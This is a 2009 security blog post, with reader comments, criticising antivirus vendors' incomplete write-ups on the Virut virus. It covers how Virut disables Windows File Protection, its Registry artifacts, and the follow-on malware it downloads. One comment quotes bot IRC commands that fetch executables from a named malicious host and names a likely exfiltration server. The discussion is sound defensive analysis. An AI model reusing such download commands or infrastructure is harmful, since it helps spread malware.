Tuesday, February 17, 2009

Virut: Unanswered Questions

One of the things that really bothers me sometimes about the AV industry is the lack of information that's available with respect to a great deal of the malware that's out there.

Take Virut, for example. Microsoft's Malware Protection Center had a post here about a new variant being available, and there's information here regarding the Virut virus family (info about the latest variant, Virut.BM, is here).

Of course, the various AV vendors also provide some modicum of information about either the Virut family or a specific variant, all with varying levels of information. Some, like McAfee, provide more information than others, so that if the AV product itself isn't picking up the virus (due, in part, to its polymorphic nature) then maybe you can look for artifacts (modification to the hosts file, Registrykeys/values, etc.) that may help you narrow down not only the infection, but also help you identify other infected systems.

One interesting aspect of all of this, and glaringly obvious in its absence, is any discussion of Windows File Protection, or WFP. While WFP is not mean to be a security mechanism, per se, the fact of the matter is that if Virut infects all EXEs on a system, then it would stand to reason that protected system files that are infected would be replaced by WFP...IF it were not disabled. Since there seem to be no discussions about this at all (at least not since Dec 2007), then it would stand to reason that the virus does, somehow, disable WFP.

So...does anyone have any thoughts on why Microsoft isn't letting its customers know about this?

Addendum: First, per the comments to this post, the MMPC listing for the virus was updated to include information on the method used to disable WFP/SFP while this post was being written.

Now, in yet another example of the massive disconnect between AV vendors and their customers, McAfee has a post on W32/Virut.n that refers to "Registry entries", without specifying whether the entries are Registry keys or values. Symantec, on the other hand, calls the data added to the Registry an "entry" in their W32.Virut.CF post, but provides enough information to indicate that it's a value.

How is this a disconnect? Many customers of these AV vendors have enterprise-wide infrastructures, and need to determine other systems that may be infected. MS's WMI provides a fantastic capability to quickly determine this...and yet, without clear, concise, and correct information,customers are left struggling.

Is it really that hard? I mean, you've done the analysis, and have the information. What's the issue? Also, why is MS the only vendor that I've found so far to make any mention of WFP being disabled?


jaymcjay said...

According to the Analysis page here (http://www.microsoft.com/security/portal/Entry.aspx?Name=Virus%3aWin32%2fVirut.BM) the virus infects the in-memory version of WINLOGON and the System File Protection DLL, thereby bypassing SFC.

I don't think it's fair to blame Microsoft, as it's impossible (AFAIK) to protect against System-level privileges, which is how this virus is spread to begin with. It's actually a rather intelligent virus, from the looks of it. Considerably more advanced than Conficker in its attack mechanism, anyway.

H. Carvey said...


Good catch...when I asked an MS rep directly today (because I didn't see that information when reading the write up this morning), the response was, "which variant?", and "send us a sample".I don't think it's fair to blame Microsoft, as it's impossible (AFAIK) to protect against System-level privileges...

Agreed, but let's be clear...I don't have an issue with protecting against the use or escalation to System-level privileges. In fact, I never brought that up as an issue in my post. What I am taking ALL AV vendors to task over is the lack of complete information with respect to malware.

H. Carvey said...


Also, just an addendum...I just received an email from a contact at MS...b/c I asked the question, they added the section of the write up that you pointed out today, likely while I was writing the post...

hogfly said...

I have to be honest. I care less about the virut infection than I do the secondary and tertiary downloaded executables. Detecting a virut infection is fairly easy on the network. The IRC connection is simple to identify.

As pointed out in the mcafee writeup, it will download an executable 003[24].exe. This downloads another binary named cae.exe.

This third binary installs a microsoft passthru driver (read packet sniffer and proxy), which binds ethernet to it, so all network traffic gets sent through this interface. There's a hardcoded IP of that currently resolves to srv.mshosting.ru. Presumably, the traffic gets sent there, though I've not yet observed it. This binary also makes function calls for currency conversion, indicating a financial motive. This binary also has rootkit functionality.

As for why microsoft isn't really discussing this one, it could be due to the hunt for the conficker people.

H. Carvey said...As pointed out in the mcafee writeup...

Maybe I'm not looking at the same write up...but the one I linked in the post doesn't appear to include any reference to either executable you mentioned.

Can you provide a link?

hogfly said...

The initial executable info is here in the mcafee writeup you posted:

It would also join an IRC channel to receive commands which includes downloading of other malware:

* PRIVMSG [blocked] :!get http://horobl.cn/[blocked]/0032.exe
* PRIVMSG [blocked] :!get http://horobl.cn/[blocked]/0034.exe

In my experiences, I've only seen 0032.exe downloaded, and that binary functions as a downloader and will go back out to setdoc.cn and download cae.exe.

And you're right. There is no mention of this added piece of malware. I've not seen any mention of this last executable on any site but it is pretty well detected at this point.

I uploaded it to offensivecomputing here:

Cd-MaN said...

It is quite easy to disable the SFC via several undocumented API's, which are nevertheless widely used in malware (as a former malware analyst I can vouch for that). See a good writeup here:

Hacking Windows File Protection

H. Carvey said...

@cdman83: I'm aware of that site, and in fact have included information about it in WFA 2/e. However, the fact that there are ways to disable WFP wasn't the point...the point isthat with the exception of MS, no other AV vendor makes any mention of this. I'm not so much concerned with the how as I am with the fact that its being done, as this has significant impact on what the customer can do to protect themselves, as well as what responders and forensic analysts such as myself need to be looking for.

@hogfly: "I care less about the virut infection than I do the secondary and tertiary downloaded executables."Understood. What are you seeing as the infection vector forVirut? It's pretty clear how the follow-on downloads are getting onto systems, but how is Virut getting onsystems in the first place in your experience?